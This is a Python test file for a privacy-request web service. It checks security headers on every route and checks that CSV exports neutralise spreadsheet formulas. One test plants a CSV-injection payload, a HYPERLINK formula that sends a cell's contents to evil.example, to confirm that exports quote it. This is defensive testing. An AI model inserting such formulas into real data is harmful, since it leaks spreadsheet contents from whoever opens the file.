"""What every response carries (nosniff, a referrer policy), what every HTML page carries (a content security
policy that forbids framing), and CSV cells that a spreadsheet will not run as formulas: swept over every
route the app serves and every CSV the service writes."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from fastapi.responses import HTMLResponse
from fastapi.routing import APIRoute
from pydantic import BaseModel

from app import api
from app.core.csv_safe import DANGEROUS, neutralize
from app.main import create_app
from app.ops.router import router as ops_router
from app.privacy_center.deps import CenterRoute
from app.privacy_center.router import router as center_router
from app.records import service as records
from app.records.schemas import RecordOfProcessing
from app.rights_requests import package as packages
from app.rights_requests.package import Package
from app.web.router import router as web_router
from tests.support import (
    ADMIN,
    STAFF_ALL,
    add_item,
    app_settings,
    as_subject,
    complete_request,
    make_subject,
    staff,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
async def dev_app(database_url) -> Any:
    """The service as it runs in development: the demo site and the mail viewer are there too."""
    application = create_app(app_settings(database_url=database_url, log_level="WARNING", env="development"))
    async with application.router.lifespan_context(application):
        yield application


@pytest.fixture
async def dev(dev_app) -> Any:
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=dev_app), base_url="http://testserver"
    ) as http:
        yield http


def _routes() -> Iterator[tuple[str, Any]]:
    """Every route the app serves, with its full path: the API's routers under /v1, and the others."""

    def walk(router: Any, prefix: str) -> Iterator[tuple[str, Any]]:
        for route in router.routes:
            original = getattr(route, "original_router", None)
            if original is not None:  # a router included into this one
                yield from walk(original, prefix + route.include_context.prefix)
            elif hasattr(route, "path"):
                yield prefix + route.path, route

    for router in api.ROUTERS:
        yield from walk(router, api.PREFIX)
    for router in (ops_router, web_router, center_router):
        yield from walk(router, "")


def _declares_html(path: str, route: Any, document: dict[str, Any]) -> bool:
    if isinstance(route, CenterRoute):
        return True
    if isinstance(route, APIRoute):
        if route.response_class is HTMLResponse or route.endpoint.__annotations__.get("return") in (
            HTMLResponse,
            "HTMLResponse",
        ):
            return True
        for operation in document.get("paths", {}).get(path, {}).values():
            for response in operation.get("responses", {}).values():
                if "text/html" in response.get("content", {}):
                    return True
    return False


def check_headers(response: httpx.Response) -> None:
    where = f"{response.request.method} {response.request.url} ({response.status_code})"
    assert response.headers.get("x-content-type-options") == "nosniff", where
    assert response.headers.get("referrer-policy") == "same-origin", where
    if response.headers.get("content-type", "").startswith("text/html"):
        policy = response.headers.get("content-security-policy", "")
        directives = {d.strip().split(" ")[0]: d.strip() for d in policy.split(";") if d.strip()}
        assert directives.get("frame-ancestors") == "frame-ancestors 'none'", where
        assert response.headers.get("x-frame-options") == "DENY", where


async def test_every_response_and_every_html_page_carries_the_headers(dev_app, dev):
    subject = await make_subject(dev)
    request = await complete_request(dev, subject["id"], "access")
    link = await dev.post(
        "/v1/marketing/unsubscribe-links", json={"email": subject["email"]}, headers=staff("consents:read")
    )
    token = link.json()["token"]
    values = {"subject_id": subject["id"], "request_id": request["id"], "version": "2026-11-28"}
    queries = {
        "/v1/marketing/unsubscribe": {"token": token},
        "/v1/rights-requests/{request_id}/package": {"format": "html"},
    }
    document = dev_app.openapi()
    expected_html, html_seen, answered = set(), set(), 0
    for path, route in _routes():
        methods = getattr(route, "methods", None) or {"GET"}
        if "GET" not in methods:
            continue
        if _declares_html(path, route, document):
            expected_html.add(path)
        url = path
        for name in getattr(route, "param_convertors", {}):
            url = url.replace("{" + name + "}", values.get(name, str(uuid.uuid4())))
            url = url.replace("{" + name + ":uuid}", values.get(name, str(uuid.uuid4())))
            url = url.replace("{" + name + ":path}", "wesafe-consent.js")
        response = await dev.get(url, params=queries.get(path, {}), headers=STAFF_ALL)
        answered += 1
        check_headers(response)
        if response.headers.get("content-type", "").startswith("text/html"):
            html_seen.add(path)
        elif path in expected_html and isinstance(route, CenterRoute):
            # A page behind the sign-in sends an anonymous visitor there (the center's own tests sign in).
            assert response.status_code == 303, (path, response.status_code)
            expected_html.discard(path)
    # The unsubscribe form's answer is a page too, and so are errors answered without a route.
    posted = await dev.post(
        "/v1/marketing/unsubscribe", params={"token": token}, data={"List-Unsubscribe": "One-Click"}
    )
    assert posted.status_code == 200
    check_headers(posted)
    check_headers(await dev.get("/no/such/path"))
    check_headers(
        await dev.post(
            "/v1/subjects", content=b"x" * (dev_app.state.settings.max_body_bytes + 1), headers=STAFF_ALL
        )
    )
    assert answered > 60
    assert expected_html and expected_html <= html_seen, expected_html - html_seen
    assert {"/v1/marketing/unsubscribe", "/docs", "/redoc", "/demo/site", "/privacy-center"} <= html_seen


def _poison(value: Any, start: str) -> Any:
    """Every string inside `value` (field, list item, key) made to start with `start`."""
    if isinstance(value, BaseModel):
        for name in type(value).model_fields:
            object.__setattr__(value, name, _poison(getattr(value, name), start))
        return value
    if isinstance(value, str):
        return start + value
    if isinstance(value, list):
        return [_poison(item, start) for item in value]
    if isinstance(value, dict):
        return {_poison(k, start): _poison(v, start) for k, v in value.items()}
    return value


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows[1:] for cell in row]  # the header row is the service's own column names


def _assert_neutral(cells: list[str], start: str) -> None:
    assert cells
    bad = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not bad, bad[:5]
    assert any(cell.startswith("'" + start) for cell in cells)


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
async def test_the_record_of_processing_csv_neutralizes_formulas(client, start):
    response = await client.get("/v1/records-of-processing", headers=ADMIN)
    record = _poison(RecordOfProcessing.model_validate(response.json()), start)
    _assert_neutral(_cells(records.to_csv(record)), start)


@pytest.mark.filterwarnings("ignore:Pydantic serializer warnings")  # the poison reaches enum fields too
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
async def test_the_package_csv_neutralizes_formulas(client, start):
    subject = await make_subject(client)
    await add_item(client, subject["id"], category="name", value="Anna Andersson")
    request = await complete_request(client, subject["id"], "access")
    response = await client.get(
        f"/v1/rights-requests/{request['id']}/package", headers=as_subject(subject["id"])
    )
    package = _poison(Package.model_validate(response.json()), start)
    with zipfile.ZipFile(io.BytesIO(packages.to_csv_zip(package))) as archive:
        cells = [cell for name in archive.namelist() for cell in _cells(archive.read(name).decode())]
    _assert_neutral(cells, start)


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
async def test_a_subjects_own_data_downloaded_as_csv_is_neutralized(client, start):
    """End to end: what a subject typed, through the API's own download (the privacy center's is the same)."""
    subject = await make_subject(client)
    value = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    item = await client.post(
        f"/v1/subjects/{subject['id']}/data",
        headers=staff("subjects:write"),
        json={"category": "address", "value": value, "source": "direct", "purpose": "service"},
    )
    assert item.status_code == 201, item.text
    request = await complete_request(client, subject["id"], "access")
    response = await client.get(
        f"/v1/rights-requests/{request['id']}/package.zip", headers=as_subject(subject["id"])
    )
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        cells = _cells(archive.read("personal_data.csv").decode())
    stored = item.json()["value"]  # text is stripped on the way in: a leading tab or CR does not get that far
    assert stored.startswith("HYPERLINK") if start in "\t\r" else stored == value
    assert (f"'{stored}" if stored.startswith(FORMULA_STARTS) else stored) in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_the_helper_follows_owasps_rule():
    assert DANGEROUS == FORMULA_STARTS
    for start in FORMULA_STARTS:
        assert neutralize(f"{start}1+1") == f"'{start}1+1"
    for safe in ("", "Anna", "'=already quoted", " =1", "1-2", "a=b"):
        assert neutralize(safe) == safe
    for other in (None, 5, -5, 1.5, True):
        assert neutralize(other) == other  # the service's own numbers are numbers, not text to guard
